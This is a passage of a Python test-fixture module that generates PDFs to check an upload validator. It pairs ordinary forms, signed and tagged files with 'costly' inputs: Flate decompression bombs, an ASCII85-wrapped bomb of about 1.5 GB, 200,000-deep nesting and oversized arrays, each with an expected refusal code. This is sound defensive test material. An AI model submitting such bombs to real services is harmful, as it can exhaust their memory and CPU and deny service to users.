            _widget(b"nome", b"100 700 300 720"),
            _widget(b"codice_fiscale", b"100 670 300 690", b"/MaxLen 16 /Q 0"),
            b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (consenso) /V /Yes /AS /Yes "
            b"/Rect [100 640 112 652] /P 3 0 R /MK << /CA (4) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [100 600 300 620] /Dest [4 0 R /Fit] /Border "
            b"[0 0 0] >>",
            b"<< /Type /Annot /Subtype /Link /Rect [100 580 300 600] /A << /Type /Action /S "
            b"/GoTo /D (retro) >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [100 560 300 580] /A << /S /Named /N "
            b"/NextPage >> /H /I /Next << /S /URI /URI (https://www.infocert.it/privacy) >> >>",
            b"<< /Type /Annot /Subtype /Text /Rect [20 800 40 820] /Contents (Nota) /Open false "
            b"/Popup 18 0 R >>",
            b"<< /Type /Annot /Subtype /Highlight /Rect [100 500 300 520] /QuadPoints [100 520 "
            b"300 520 100 500 300 500] /C [1 1 0] >>",
            b"<< /Type /Annot /Subtype /Stamp /Rect [400 50 550 100] /Name /Approved >>",
            b"<< /Type /Annot /Subtype /FreeText /Rect [300 300 500 340] /DA (/Helv 12 Tf 0 g) "
            b"/Contents (Firmato) >>",
            b"<< /Type /Annot /Subtype /Ink /Rect [300 200 500 260] /InkList [[300 200 400 260 "
            b"500 210]] /BS << /S /D /D [3 2] >> >>",
            b"<< /Type /Outlines /First 20 0 R /Last 20 0 R /Count 1 >>",
            b"<< /Type /Annot /Subtype /Popup /Rect [40 700 200 800] /Parent 12 0 R >>",
            b"<< /Names [(retro) [4 0 R /XYZ 0 842 0]] >>",
            b"<< /Title (Retro) /Parent 17 0 R /A << /S /GoTo /D [4 0 R /Fit] >> /Next 21 0 R >>",
            b"<< /Title (Fronte) /Parent 17 0 R /Dest [3 0 R /Fit] /Prev 20 0 R >>",
        ]
    )


def tagged_with_objstm() -> bytes:
    """A tagged PDF (structure tree: /S /P, /S /Link, /S /Figure) in compressed object streams
    with a cross-reference stream, XMP metadata and an opening GoTo action."""
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'></x:xmpmeta>"
    return _pdf_objstm(
        [
            b"<< /Type /Catalog /Pages 2 0 R /StructTreeRoot 5 0 R /MarkInfo << /Marked true >> "
            b"/Metadata 8 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> "
            b"/OCProperties << /OCGs [9 0 R] /D << /ON [9 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/StructParents 0 /Tabs /S >>",
            CONTENT,
            b"<< /Type /StructTreeRoot /K [6 0 R] /RoleMap << /Paragrafo /P >> >>",
            b"<< /Type /StructElem /S /P /P 5 0 R /K [7 0 R] >>",
            b"<< /Type /StructElem /S /Link /P 6 0 R /Alt (collegamento interno) >>",
            b"<< /Type /Metadata /Subtype /XML /Length "
            + str(len(xmp)).encode()
            + b" >>\nstream\n"
            + xmp
            + b"\nendstream",
            b"<< /Type /OCG /Name (Firma) >>",
        ],
        hidden={1, 2, 3, 5, 6, 7, 9},
    )


def signed_form() -> bytes:
    """A form signed the way signing software does it: an incremental update adding a
    signature field, its /Sig dictionary (PAdES, /ByteRange, /Contents), DocMDP permissions."""
    base = linked_form()
    prev = int(re.search(rb"startxref\s+(\d+)", base).group(1))
    start = len(base)
    contents = b"<" + b"30820a" + b"00" * 4000 + b">"
    sig = (
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
        b"/ByteRange [0 100 200 300] /Contents " + contents + b" /M (D:20261201120000+01'00') "
        b"/Name (MARIO ROSSI) /Reason (Firma del modulo) /Reference [<< /Type /SigRef "
        b"/TransformMethod /DocMDP /TransformParams << /Type /TransformParams /P 2 /V /1.2 >> "
        b">>] >>"
    )
    field = (
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Firma1) /V 22 0 R /Rect [350 100 550 150] "
        b"/P 3 0 R /F 132 /Lock << /Type /SigFieldLock /Action /All >> >>"
    )
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /Perms << /DocMDP 22 0 R >> "
        b"/AcroForm << /Fields [6 0 R 7 0 R 8 0 R 23 0 R] /SigFlags 3 >> >>"
    )
    update = bytearray()
    offsets = {}
    for number, body in ((1, catalog), (22, sig), (23, field)):
        offsets[number] = start + len(update)
        update += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = start + len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n1 1\n" + f"{offsets[1]:010d} 00000 n \n".encode()
    update += b"22 2\n" + f"{offsets[22]:010d} 00000 n \n{offsets[23]:010d} 00000 n \n".encode()
    update += (
        f"trailer\n<< /Size 24 /Root 1 0 R /Prev {prev} >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return base + bytes(update)


def bounded_filters(mb: float = 9.0) -> bytes:
    """A page whose image is RunLength-encoded and another whose image is ASCII85-encoded:
    legal, megabytes large, and (being at most 64 and 4 times their size) no bomb."""
    half = int(mb * 1024 * 1024 / 2)
    return _scan(
        [
            _image(b"\xff\x20" * (half // 2) + b"\x80", b"/RunLengthDecode"),
            _image(b"9jqo^" * (half // 5) + b"~>", b"/ASCII85Decode"),
        ]
    )


#: (label, factory): ordinary uploads the check must accept, plain and signed in a .p7m.
ORDINARY_PDFS = [
    ("one-page letter (the portal's own PDF writer)", good_pdf),
    ("pypdf document with a font", lambda: _factories().make_pdf("Procura speciale")),
    ("9 MB JPEG scan whose image data spells /JS", jpeg_scan),
    ("CCITT and JBIG2 scan", fax_scan),
    ("Flate image with a soft mask", flate_scan),
    ("filled form with links, outlines and annotations", linked_form),
    ("tagged PDF in object streams", tagged_with_objstm),
    ("signed form (signature field, DocMDP, incremental update)", signed_form),
    ("9 MB of RunLength and ASCII85 images", bounded_filters),
]


# --------------------------------------------------------------------------- costly files
#
# Valid or nearly valid PDFs that cost a naive check seconds of CPU or hundreds of MB: the check
# must end within its bounds whatever they hold. (label, factory, the code expected: "ok" when
# the file is accepted.)


def _one_stream(data: bytes, filters: bytes) -> bytes:
    stream = (
        b"<< /Length "
        + str(len(data)).encode()
        + b" /Filter "
        + filters
        + b" >>\nstream\n"
        + data
        + b"\nendstream"
    )
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE,
            stream,
        ]
    )


def _lzw_codes(codes: list[int]) -> bytes:
    """9-bit LZW codes, packed high bit first (the table never grows past 9 bits here)."""
    buffer = bits = 0
    out = bytearray()
    for code in codes:
        buffer, bits = (buffer << 9) | code, bits + 9
        while bits >= 8:
            bits -= 8
            out.append((buffer >> bits) & 0xFF)
    if bits:
        out.append((buffer << (8 - bits)) & 0xFF)
    return bytes(out)


def lzw_stream(mb: float = 9.5) -> bytes:
    """A 9.5 MB LZW page stream: pypdf decodes it in pure Python, 6-12 s of CPU."""
    block = _lzw_codes([256] + [0x41 + i % 26 for i in range(127)])  # clear + 127 letters
    return _one_stream(
        block * int(mb * 1024 * 1024 / len(block)) + _lzw_codes([257]), b"/LZWDecode"
    )


def runlength_stream(mb: float = 9.5) -> bytes:
    """9.5 MB of two-byte runs: pypdf keeps a Python object per run (+600 MB)."""
    return _one_stream(b"\xff\x20" * int(mb * 1024 * 1024 / 2) + b"\x80", b"/RunLengthDecode")


def ascii85_stream(mb: float = 9.5) -> bytes:
    """9.5 MB of ASCII85 "z" (four zero bytes each): +800 MB in pypdf."""
    return _one_stream(b"z" * int(mb * 1024 * 1024) + b"~>", b"/ASCII85Decode")


def ascii85_then_flate(mb: float = 9.5) -> bytes:
    """ASCII85 wrapping Flate: the ASCII85 must be decoded to reach the Flate."""
    import base64

    inner = zlib.compress(bytes(int(mb * 1024 * 1024 * 0.8 * 200)), 9)  # ~1.5 GB of zeros
    return _one_stream(base64.a85encode(inner, adobe=True), b"[/ASCII85Decode /FlateDecode]")


def many_flate_bombs(count: int = 40) -> bytes:
    """Many streams, each inflating to 16 MB (each under any per-stream limit)."""
    data = zlib.compress(bytes(16 * 1024 * 1024), 9)
    stream = (
        b"<< /Length "
        + str(len(data)).encode()
        + b" /Filter /FlateDecode >>\nstream\n"
        + data
        + b"\nendstream"
    )
    return with_catalog(b"", [stream] * count)


def deep_nesting(depth: int = 200_000) -> bytes:
    return with_catalog(b"/Deep " + b"[" * depth + b"]" * depth)


def many_objects(count: int = 45_000) -> bytes:
    """Just under the object limit: every object is parsed and looked at."""
    return with_catalog(
        b"/Many 5 0 R",
        [b"[" + b" ".join(f"{n} 0 R".encode() for n in range(6, 6 + count - 1)) + b"]"]
        + [b"<< /K [1 2 3] /N (x) >>"] * (count - 1),
    )


def huge_array(mb: float = 9.5) -> bytes:
    """One array of millions of numbers: pypdf parses each token in Python."""
    return with_catalog(b"/Big [" + b"0 " * int(mb * 1024 * 1024 / 2) + b"]")


def repeated_keys(count: int = 100_000) -> bytes:
    """A dictionary repeating one key 100,000 times: pypdf warns once per repetition."""
    return with_catalog(b"/Dup << " + b"/K 1 " * count + b">>")


def dangling_references(count: int = 20_000) -> bytes:
    """References to objects that do not exist, each of which pypdf looks for in the whole
    file (a regular expression over 10 MB per reference)."""
    refs = b" ".join(f"/S {n} 0 R".encode() for n in range(100, 100 + count))
    return with_catalog(
        b"/Refs ["
        + b" ".join(b"<< " + r + b" >>" for r in refs.split(b" /S "))
        + b"] %"
        + b"x" * (8 * 1024 * 1024)
    )


#: (label, factory, the outcomes allowed: "ok" is accepted, else the refusal's code)
COSTLY_PDFS = [
    ("9.5 MB LZW stream", lzw_stream, {"too_complex"}),
    ("9.5 MB RunLength stream", runlength_stream, {"ok"}),
    ("9.5 MB ASCII85 stream", ascii85_stream, {"ok"}),
    ("ASCII85 wrapping a Flate bomb", ascii85_then_flate, {"bomb", "too_complex"}),
    ("40 streams of 16 MB of zeros each", many_flate_bombs, {"bomb"}),
    ("arrays nested 200,000 deep", deep_nesting, {"broken"}),
    ("5,000 objects", functools.partial(many_objects, 5000), {"ok"}),
    ("45,000 objects", many_objects, {"ok", "too_complex"}),
    ("an array of 5 million numbers", huge_array, {"broken", "too_complex"}),
    ("100,000 repeated dictionary keys", repeated_keys, {"ok", "too_complex"}),
    ("20,000 references to missing objects", dangling_references, {"ok", "too_complex"}),
]
